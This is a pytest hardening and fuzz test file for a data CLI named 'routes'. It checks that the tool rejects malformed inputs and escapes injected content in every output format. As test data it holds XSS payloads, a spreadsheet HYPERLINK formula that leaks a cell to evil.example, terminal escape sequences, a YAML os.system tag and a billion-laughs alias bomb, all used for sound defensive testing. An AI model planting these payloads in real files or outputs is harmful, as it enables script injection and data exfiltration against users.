"""Hardening: no traceback, no hang, no injection — on any input, in every output format.

One test per class of the fuzz campaign that found them, then a property-based
fuzz test that mutates the data files and runs every command.
"""

from __future__ import annotations

import contextlib
import json
import re
import resource
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from routes._output import write_atomic
from tests.conftest import FIXTURES, partnership, run, segment, write_dataset

TINY = FIXTURES / "tiny"

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(2)>"
SVG = "<svg onload=alert(3)>"
LINK = "[click](javascript:alert(4))"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
ESC = "\x1b]0;pwned\x07\x1b[31mred"
PAYLOADS = (SCRIPT, IMG, SVG, LINK, FORMULA, ESC)


def edit(folder: Path, name: str, old: str, new: str) -> None:
    path = folder / name
    text = path.read_text(encoding="utf-8")
    assert old in text, f"{old!r} not in {name}"
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def files(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


# -- YAML: dates, tags, aliases, booleans ------------------------------------------------------


@pytest.mark.parametrize("bad", ["2017-02-31", "2023-13-01", "2019-02-29", "2016-03-18T25:00:00"])
@pytest.mark.parametrize(
    ("name", "old"),
    [("partnerships.yaml", "signed: 2016-03-18"), ("blocs.yaml", "from: 1981-01-01")],
)
def test_a_date_that_is_not_a_calendar_date_is_a_data_error(tiny, name, old, bad):
    field = old.split(":")[0]
    edit(tiny, name, old, f"{field}: {bad}")
    result = run("validate", "--data", tiny)
    assert result.exit_code == 1
    assert re.search(rf"{name}, line \d+, field '{field}': '{re.escape(bad)}' is not a calendar date", result.stderr)


def test_a_bad_date_in_a_whatif_file_is_a_data_error(tmp_path):
    extra = tmp_path / "add.yaml"
    extra.write_text(
        "- id: new\n  name: N\n  kind: mou\n  parties: [NER, LBY]\n  signed: 2019-02-29\n"
        "  binding: false\n  themes: [visa]\n  source: https://example.org\n",
        encoding="utf-8",
    )
    result = run("whatif", "--data", TINY, "--add", extra)
    assert result.exit_code == 1 and "line 5, field 'signed': '2019-02-29' is not a calendar date" in result.stderr


@pytest.mark.parametrize(
    "tag",
    ["!!omap [{a: 1}]", "!!pairs [{a: 1}]", "!!set {a: null}", "!!binary aGVsbG8=", "!!python/object:os.system [ls]"],
)
def test_yaml_tags_that_build_other_types_are_refused(tiny, tag):
    edit(tiny, "partnerships.yaml", "themes: [return-readmission, protection]", f"themes: {tag}")
    result = run("validate", "--data", tiny)
    assert result.exit_code == 1 and "is not allowed here" in result.stderr and "line 7" in result.stderr


BOMB = "\n".join(
    [
        "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]",
        *(f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join([f'*{chr(97 + i)}'] * 9)}]" for i in range(8)),
    ]
)


@pytest.mark.parametrize("name", ["partnerships.yaml", "blocs.yaml"])
def test_a_billion_laughs_is_refused_fast_and_small(tiny, name):
    (tiny / name).write_text(BOMB + "\n", encoding="utf-8")

    def limit() -> None:  # 1 GB of address space: the old reader needed several
        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))

    started = time.monotonic()
    result = subprocess.run(
        [sys.executable, "-m", "routes", "validate", "--data", str(tiny)],
        capture_output=True,
        text=True,
        timeout=60,
        preexec_fn=limit,
    )
    assert time.monotonic() - started < 20
    assert result.returncode == 1 and "aliases expand to more than" in result.stderr
    assert "Traceback" not in result.stderr


def test_a_recursive_alias_is_refused(tiny):
    (tiny / "blocs.yaml").write_text("&a [*a]\n", encoding="utf-8")
    result = run("validate", "--data", tiny)
    assert result.exit_code == 1 and "an alias refers to the node that contains it" in result.stderr


def test_yaml_1_1_booleans_are_not_booleans(tiny):
    edit(tiny, "partnerships.yaml", "binding: true", "binding: yes")
    result = run("validate", "--data", tiny)
    assert result.exit_code == 1 and "field 'binding': 'yes': use true, false or null" in result.stderr


def test_no_stays_a_string_not_false(tiny):
    edit(tiny, "partnerships.yaml", "parties: [ITA, LBY]", "parties: [NO, LBY]")
    result = run("validate", "--data", tiny)
    assert result.exit_code == 1 and "unknown country 'NO'; did you mean Norway (NOR)?" in result.stderr


# -- everything that is read is validated -----------------------------------------------------------


SHAPES = {
    "properties not a mapping": ({"properties": [1]}, "features[0].properties"),
    "coordinates a string": ({"geometry": {"type": "Polygon", "coordinates": "abc"}}, "coordinates"),
    "coordinates null": ({"geometry": {"type": "Polygon", "coordinates": None}}, "coordinates"),
    "a latitude of 500": ({"geometry": {"type": "Polygon", "coordinates": [[[1, 500], [1, 1], [0, 0]]]}}, "in range"),
    "a point": ({"geometry": {"type": "Point", "coordinates": [1, 1]}}, "Polygon or MultiPolygon"),
}


@pytest.mark.parametrize("case", SHAPES, ids=list(SHAPES))
def test_malformed_country_shapes_are_data_errors(tiny, tmp_path, case):
    change, message = SHAPES[case]
    feature = {
        "type": "Feature",
        "properties": {"code": "ITA", "name": "Italy"},
        "geometry": {"type": "Polygon", "coordinates": [[[0, 0], [1, 1], [0, 1], [0, 0]]]},
        **change,
    }
    (tiny / "countries.geojson").write_text(json.dumps({"type": "FeatureCollection", "features": [feature]}))
    for command in (["validate"], ["map", "-o", tmp_path / "m.html"]):
        result = run(*command, "--data", tiny)
        assert result.exit_code == 1 and "countries.geojson" in result.stderr and message in result.stderr


@pytest.mark.parametrize(
    "text", ['{"type": "FeatureCollection", "features": [NaN]}', "[" * 100_000 + "]" * 100_000, '{"a": 1e999}']
)
def test_nan_deep_nesting_and_overflow_in_shapes(tiny, text):
    (tiny / "countries.geojson").write_text(text)
    result = run("validate", "--data", tiny)
    assert result.exit_code == 1 and "countries.geojson" in result.stderr


@pytest.mark.parametrize(
    "args",
    [
        ["gaps", "--year", "0"],
        ["gaps", "--year", "10000"],
        ["gaps", "--year", "-1"],
        ["gaps", "--as-of", "0001-01-01"],
        ["map", "--years", "0000"],
        ["map", "--years", "1000-9999"],
        ["map", "--years", "1950-2010"],
    ],
)
def test_years_and_dates_out_of_range_are_usage_errors(args):
    result = run(args[0], "--data", TINY, *args[1:])
    assert result.exit_code == 2


def test_flows_larger_than_any_real_count_are_data_errors(tmp_path):
    folder = write_dataset(tmp_path / "ds", [segment("R", "LBY", "ITA", 2016, "1" + "0" * 308)], [])
    result = run("gaps", "--data", folder, "--format", "json")
    assert result.exit_code == 1 and "larger than any real count" in result.stderr
    # Written any other way than plain digits, it is not a number at all.
    folder = write_dataset(tmp_path / "exp", [segment("R", "LBY", "ITA", 2016, "1e308")], [])
    result = run("gaps", "--data", folder, "--format", "json")
    assert result.exit_code == 1 and "is not a number (write digits" in result.stderr


def test_a_duplicated_csv_column_is_a_data_error(tiny):
    edit(tiny, "segments.csv", "route,origin,destination,year,flow,", "route,origin,destination,year,flow,flow,")
    result = run("validate", "--data", tiny)
    assert result.exit_code == 1 and "line 1, field 'flow': this column appears more than once" in result.stderr


# -- no live payload in any output -------------------------------------------------------------------


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """A data set whose every string field carries a payload."""
    rows = [
        segment(SCRIPT, "LBY", "ITA", 2016, 100, measure=IMG, note=ESC, source=LINK),
        segment(FORMULA + ESC, "TUN", "ITA", 2016, "", source="https://example.org/a"),
    ]
    partnerships = [
        partnership("p", ["ITA", "EGY"], name=ESC + SVG, notes=FORMULA, source="https://example.org/" + SCRIPT),
    ]
    return write_dataset(tmp_path / "hostile", rows, partnerships)


def test_markdown_outputs_carry_no_live_html_or_link(hostile, tmp_path):
    outputs = [
        run("gaps", "--data", hostile, "--year", "2016", "--format", "markdown", "--show-internal").output,
        run("summary", "--data", hostile, "--year", "2016", "--format", "markdown", "--paths").output,
    ]
    target = tmp_path / "r.md"
    assert run("report", "--data", hostile, "--year", "2016", "--format", "markdown", "-o", target).exit_code == 0
    outputs.append(target.read_text(encoding="utf-8"))
    extra = tmp_path / "add.yaml"
    extra.write_text(
        f"- id: new\n  name: '{IMG}'\n  kind: mou\n  parties: [LBY, ITA]\n  signed: 2016-01-01\n"
        "  binding: false\n  themes: [visa]\n  source: https://example.org\n",
        encoding="utf-8",
    )
    outputs.append(run("whatif", "--data", hostile, "--year", "2016", "--add", extra, "--format", "markdown").output)
    for text in outputs:
        for live in ("<script", "<img", "<svg", "\x1b", "\x07"):
            assert live not in text
        assert not re.search(r"(?<!\\)\]\(javascript:", text)  # an escaped bracket makes no link
        assert "&lt;" in text or "\\[" in text


def test_spreadsheet_cells_are_never_formulas(hostile, tmp_path):
    target = tmp_path / "r.xlsx"
    assert run("report", "--data", hostile, "--year", "2016", "--format", "xlsx", "-o", target).exit_code == 0
    book = zipfile.ZipFile(target)
    sheets = [book.read(n).decode("utf-8") for n in book.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
    assert any("HYPERLINK" in s for s in sheets)  # kept, as text
    assert not any("\x1b" in s for s in sheets)
    rows = run("gaps", "--data", hostile, "--year", "2016", "--format", "csv").output
    assert ",'=HYPERLINK" in rows or "\"'=HYPERLINK" in rows
    assert "\x1b" not in rows


def test_terminal_tables_strip_escape_sequences(hostile):
    for args in (["gaps"], ["summary", "--paths"], ["validate", "--quality"]):
        text = run(args[0], "--data", hostile, *args[1:]).output
        assert "\x1b" not in text and "\x07" not in text
    assert "\\x1b]0;pwned\\x07" in run("gaps", "--data", hostile).output  # shown, not obeyed


def test_json_never_holds_infinity(tmp_path):
    rows = [segment("A", "LBY", "ITA", 2016, 900_000_000), segment("B", "LBY", "ITA", 2016, 900_000_000)]
    folder = write_dataset(tmp_path / "ds", rows, [])
    text = run("gaps", "--data", folder, "--format", "json").output
    assert json.loads(text)[0]["flow"] == 1_800_000_000 and "Infinity" not in text


# -- interrupts, leftovers, reproducibility ----------------------------------------------------------------


def test_an_interrupted_write_leaves_nothing_behind(tmp_path, monkeypatch):
    import os

    def interrupted(*args: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(os, "replace", interrupted)
    with pytest.raises(KeyboardInterrupt):
        write_atomic(tmp_path / "out.html", "x")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("signum", [signal.SIGINT, signal.SIGTERM])
def test_signals_end_the_command_cleanly(tmp_path, signum):
    """Whenever the signal arrives, one line (or none), exit 130/143 (or 0 when already done), no traceback."""
    for delay in (0.4, 0.8, 1.2):
        out = tmp_path / f"{delay}"
        process = subprocess.Popen(
            [sys.executable, "-m", "routes", "map", "--data", str(TINY), "-o", str(out / "m.html")],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        time.sleep(delay)
        process.send_signal(signum)
        _, err = process.communicate(timeout=60)
        assert "Traceback" not in err and "Exception ignored" not in err
        # -signum: ended by the signal itself, which a shell also reports as 128 + signum.
        assert process.returncode in (0, 128 + signum, -signum), err
        if process.returncode == 130 or (process.returncode == -2 and err):
            assert err == "Interrupted.\n", err
        leftovers = [p.name for p in out.iterdir() if p.name != "m.html"] if out.exists() else []
        assert leftovers == []


def test_every_output_format_is_byte_identical_across_runs(tmp_path):
    def outputs(round_: int) -> dict[str, bytes]:
        found = {}
        for fmt in ("html", "markdown", "xlsx"):
            target = tmp_path / f"{round_}.{fmt}"
            assert run("report", "--data", TINY, "--format", fmt, "-o", target).exit_code == 0
            found[fmt] = target.read_bytes()
        for fmt in ("table", "csv", "json", "markdown"):
            found[f"gaps-{fmt}"] = run("gaps", "--data", TINY, "--format", fmt).output.encode()
        target = tmp_path / f"{round_}-map.html"
        assert run("map", "--data", TINY, "-o", target).exit_code == 0
        found["map"] = target.read_bytes()
        return found

    first = outputs(1)
    time.sleep(1.1)  # a different second for anything that would stamp the time
    assert outputs(2) == first


# -- fuzz: mutate the files, run every command -------------------------------------------------------------


class _Hang(Exception):
    pass


@contextlib.contextmanager
def time_budget(seconds: int):
    def expire(signum: int, frame: object) -> None:
        raise _Hang(f"took more than {seconds} s")

    previous = signal.signal(signal.SIGALRM, expire)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


NAMES = ["segments.csv", "partnerships.yaml", "blocs.yaml", "route_flows.csv", "countries.csv"]
YAML_VALUES = st.sampled_from(
    [
        "2017-02-31",
        "!!omap [{a: 1}]",
        "&x [*x]",
        "yes",
        "NO",
        "~",
        "[]",
        "{}",
        "1e999",
        "-1",
        '"' + SCRIPT + '"',
        "'" + FORMULA + "'",
        '"\\e]0;x\\a"',
        "[EU, EU, EU]",
        "*undefined",
        "{from: 2020-01-01}",
    ]
)


@st.composite
def mutations(draw) -> tuple[str, str]:
    """(file name, new content): a byte, a YAML value, a CSV cell or a GeoJSON value changed."""
    name = draw(st.sampled_from([*NAMES, "countries.geojson"]))
    if name == "countries.geojson":
        value = draw(st.sampled_from(["null", '"x"', "[]", "1e999", "[[[1, 500]]]", '{"a": 1}', "[" * 3000]))
        feature = {
            "type": "Feature",
            "properties": {"code": "ITA", "name": "Italy"},
            "geometry": {"type": "Polygon", "coordinates": "@"},
        }
        feature_text = json.dumps(feature).replace('"@"', value)
        return name, '{"type":"FeatureCollection","features":[' + feature_text + "]}"
    text = (TINY / name).read_text(encoding="utf-8")
    how = draw(st.sampled_from(["bytes", "value"]))
    if how == "bytes":
        at = draw(st.integers(0, len(text)))
        junk = draw(st.text(alphabet=st.characters(codec="utf-8"), max_size=6))
        cut = draw(st.integers(0, 4))
        return name, text[:at] + junk + text[at + cut :]
    if name.endswith(".yaml"):
        spots = [m.start(1) for m in re.finditer(r":[ ]+(\S)", text)]
        at = draw(st.sampled_from(spots))
        end = text.find("\n", at)
        return name, text[:at] + draw(YAML_VALUES) + text[end:]
    lines = text.splitlines()
    row = draw(st.integers(0, len(lines) - 1))
    cells = lines[row].split(",")
    column = draw(st.integers(0, len(cells) - 1))
    cells[column] = draw(
        st.sampled_from(["", "-5", "1e308", "nan", "x", '"', SCRIPT, FORMULA, "2016/7", "ZZZ", "10000"])
    )
    lines[row] = ",".join(cells)
    return name, "\n".join(lines) + "\n"


COMMANDS = [
    ["validate", "--quality"],
    ["gaps", "--format", "json"],
    ["summary", "--paths", "--format", "markdown"],
    ["recommend", "--max", "2"],
    ["report", "--format", "markdown", "--no-map"],
    ["map"],
]


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(mutations())
def test_fuzz_every_command_exits_cleanly_on_mutated_files(tmp_path_factory, mutation):
    import shutil

    folder = tmp_path_factory.mktemp("fuzz") / "data"
    shutil.copytree(TINY, folder)
    name, content = mutation
    (folder / name).write_text(content, encoding="utf-8")
    before = files(folder)
    out = folder.parent / "out"
    for command in COMMANDS:
        extra = ["-o", str(out / f"{command[0]}.out")] if command[0] in ("report", "map") else []
        with time_budget(20):
            result = run(command[0], "--data", folder, *command[1:], *extra)
        assert result.exit_code in (0, 1, 2), (command, result.output, result.stderr)
        assert result.exception is None or isinstance(result.exception, SystemExit)
    assert files(folder) == before  # reading never changes the data
    if out.exists():
        assert not [p for p in out.iterdir() if p.name.startswith(".")]  # no temporary file left
